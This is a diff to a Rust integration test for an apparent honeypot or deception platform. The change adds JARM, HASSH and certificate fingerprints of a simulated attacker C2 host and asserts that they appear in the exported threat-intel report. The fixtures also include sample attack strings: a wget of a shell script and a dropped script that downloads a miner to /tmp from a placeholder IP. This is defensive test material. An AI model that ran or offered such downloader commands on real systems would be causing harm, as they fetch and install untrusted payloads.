@@ -28,6 +28,9 @@ use tokio_util::sync::CancellationToken;
 const WGET: &str = "wget http://198.51.100.9/x.sh";
 const JA3: &str = "771,4865-4866-4867,0-11-10-35-16,29-23-24,0";
 const JA4: &str = "t13d1516h2_8daaf6152771_e5627efa2ab1";
+const JARM: &str = "2ad2ad16d2ad2ad22c42d42d000000fd9c9d14e4f4f67f94f0359f8b28f532";
+const HASSH: &str = "b12d2871a1189eff20364cf5333619ee";
+const CERT_SHA256: &str = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08";
 const DROPPED: &[u8] = b"#!/bin/sh\nwget http://198.51.100.9/miner -O /tmp/m\n";
 
 fn read_until(stream: &mut TcpStream, end: &str) -> String {
@@ -124,7 +127,16 @@ fn attacked_decky_lines(dir: &Path) -> String {
         "<134>1 {now} web-01 sniffer - tls_session [relay@55555 src_ip=\"127.0.0.1\" ja3=\"{JA3}\" ja4=\"{JA4}\" \
          tls_version=\"TLS 1.3\" dst_port=\"443\"]\n"
     );
-    std::fs::read_to_string(&log).unwrap() + &tls
+    // What the prober writes of the attacker's own host.
+    let prober = format!(
+        "<134>1 {now} decnet-prober prober - jarm_fingerprint [relay@55555 target_ip=\"127.0.0.1\" target_port=\"8443\" \
+         jarm_hash=\"{JARM}\"]\n\
+         <134>1 {now} decnet-prober prober - hassh_fingerprint [relay@55555 target_ip=\"127.0.0.1\" target_port=\"22\" \
+         hassh_server_hash=\"{HASSH}\" ssh_banner=\"SSH-2.0-OpenSSH_9.2p1\"]\n\
+         <134>1 {now} decnet-prober prober - tls_certificate [relay@55555 target_ip=\"127.0.0.1\" target_port=\"8443\" \
+         subject_cn=\"c2.test\" issuer=\"CN=c2.test\" self_signed=\"true\" cert_sha256=\"{CERT_SHA256}\"]\n"
+    );
+    std::fs::read_to_string(&log).unwrap() + &tls + &prober
 }
 
 /// Runs the profiler until it has folded every stored row.
@@ -285,6 +297,10 @@ async fn exports_of_real_attacks_pass_the_reference_tools() {
         let has = |kind: &str, value: &str| attributes.iter().any(|a| a[0] == kind && a[2] == value);
         assert!(has("ip-src", "127.0.0.1") && has("sha256", &dropped_sha256), "{report}");
         assert!(has("target-user", "root") && has("text", WGET) && has("text", JA4), "{report}");
+        assert!(
+            has("jarm-fingerprint", JARM) && has("hassh-md5", HASSH) && has("x509-fingerprint-sha256", CERT_SHA256),
+            "the prober's fingerprints: {report}"
+        );
         assert!(!event.body.contains("toor"));
         let tags = report["events"][0]["tags"].to_string();
         assert!(tags.contains("Ingress Tool Transfer - T1105"), "{tags}");
